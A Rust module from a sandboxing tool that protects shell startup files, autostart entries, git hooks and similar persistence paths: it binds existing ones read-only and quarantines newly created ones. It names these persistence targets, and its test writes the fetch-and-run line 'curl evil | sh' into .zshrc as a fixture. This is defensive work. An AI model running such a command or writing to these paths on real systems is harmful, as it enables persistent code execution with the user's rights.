//! Files that run later, outside the sandbox: a command under `run` must not write them, or
//! what it writes runs with the user's full rights once `run` is over (a line in `~/.bashrc`,
//! an autostart entry, a git hook, a direnv file).
//!
//! Those that exist are bound read-only in the command's mount namespace (it can neither
//! change, replace nor remove them: a mount point cannot be renamed or unlinked). Those that do
//! not exist cannot be mount points; they are watched instead: whatever the command created
//! there is moved aside when it is gone, before anything outside can run it, with a warning.
//! The bound ones are checked again too: renaming a parent directory (`~/.config`, `.git`)
//! moves the mount with it and frees the path, so a path that no longer holds the file it
//! held at the start is moved aside the same way.
//! The window: a shell the user starts *while* the command runs reads a startup file the
//! command just created (docs/THREATS.md).

use std::{
    os::unix::fs::MetadataExt as _,
    path::{Path, PathBuf},
};

/// Below the invoking user's home.
const HOME: [&str; 24] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".xprofile",
    ".xsessionrc",
    ".xinitrc",
    ".pam_environment",
    ".gitconfig",
    ".ssh",
    ".config/autostart",
    ".config/systemd",
    ".config/git",
    ".config/fish",
    ".config/environment.d",
    ".config/bash",
    ".config/zsh",
    ".local/share/applications",
];

/// Below the top of the working directory's git repository (or the working directory).
const PROJECT: [&str; 4] = [".git/hooks", ".git/config", ".vscode", ".envrc"];

/// What to protect for a command whose home is `home`, started in `cwd`, minus `writable`
/// (absolute paths, or `~/...`).
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Protected {
    /// Exist now: bound read-only.
    pub existing: Vec<PathBuf>,
    /// Do not exist: watched, moved aside at exit if created.
    pub missing: Vec<PathBuf>,
    /// The (device, inode) each of `existing` had at the start.
    identity: Vec<(u64, u64)>,
}

impl Protected {
    /// The paths for `home` and `cwd`.
    pub fn find(home: Option<&Path>, cwd: &Path, writable: &[String]) -> Self {
        let open: Vec<PathBuf> = writable
            .iter()
            .filter_map(|w| match w.strip_prefix("~/") {
                Some(rest) => home.map(|h| h.join(rest)),
                None => Some(PathBuf::from(w)),
            })
            .collect();
        let mut all: Vec<PathBuf> = Vec::new();
        if let Some(h) = home {
            all.extend(HOME.iter().map(|p| h.join(p)));
        }
        let top = project_top(cwd);
        all.extend(PROJECT.iter().map(|p| top.join(p)));
        let mut out = Self::default();
        for p in all {
            // A writable entry opens the path itself and everything below it.
            if open.iter().any(|o| p.starts_with(o)) || out.existing.contains(&p) {
                continue;
            }
            match p.symlink_metadata() {
                Ok(m) => {
                    out.existing.push(p);
                    out.identity.push((m.dev(), m.ino()));
                }
                Err(_) => out.missing.push(p),
            }
        }
        out
    }

    /// Moves aside whatever was created at a watched path (after the command is gone); the
    /// paths moved, with where they went.
    pub fn quarantine(&self) -> Vec<(PathBuf, PathBuf)> {
        let stamp = std::process::id();
        let mut moved = Vec::new();
        let replaced = self
            .existing
            .iter()
            .zip(&self.identity)
            .filter(|(p, id)| {
                p.symlink_metadata()
                    .is_ok_and(|m| (m.dev(), m.ino()) != **id)
            })
            .map(|(p, _)| p);
        for p in self.missing.iter().chain(replaced) {
            if p.symlink_metadata().is_err() {
                continue;
            }
            let mut aside = p.clone().into_os_string();
            aside.push(format!(".egress-blocked-{stamp}"));
            let aside = PathBuf::from(aside);
            if std::fs::rename(p, &aside).is_ok() {
                moved.push((p.clone(), aside));
            }
        }
        moved
    }
}

/// The top of the git repository holding `cwd` (the first ancestor with a `.git`), else
/// `cwd` itself.
fn project_top(cwd: &Path) -> PathBuf {
    cwd.ancestors()
        .find(|d| d.join(".git").symlink_metadata().is_ok())
        .unwrap_or(cwd)
        .to_path_buf()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn existing_paths_are_bound_missing_ones_watched_writable_ones_left_alone() {
        let dir = std::env::temp_dir().join(format!("egress-persist-{}", std::process::id()));
        let home = dir.join("home");
        let repo = dir.join("repo");
        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
        std::fs::write(home.join(".bashrc"), "").unwrap();
        std::fs::write(home.join(".profile"), "").unwrap();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(repo.join("src")).unwrap();
        let p = Protected::find(Some(&home), &repo.join("src"), &["~/.profile".into()]);
        assert!(p.existing.contains(&home.join(".bashrc")));
        assert!(p.existing.contains(&home.join(".config/autostart")));
        assert!(p.existing.contains(&repo.join(".git/hooks")));
        assert!(p.missing.contains(&home.join(".zshrc")));
        assert!(p.missing.contains(&repo.join(".envrc")));
        assert!(!p.existing.contains(&home.join(".profile")));
        assert!(!p.missing.contains(&home.join(".profile")));
        std::fs::write(home.join(".zshrc"), "curl evil | sh").unwrap();
        // A parent renamed away frees a bound path: what is made there in its place goes too.
        std::fs::rename(home.join(".config"), home.join(".config.old")).unwrap();
        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
        let moved = p.quarantine();
        assert_eq!(moved.len(), 2, "{moved:?}");
        assert!(!home.join(".zshrc").exists());
        assert!(!home.join(".config/autostart").exists());
        assert!(moved.iter().all(|(_, aside)| aside.exists()));
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
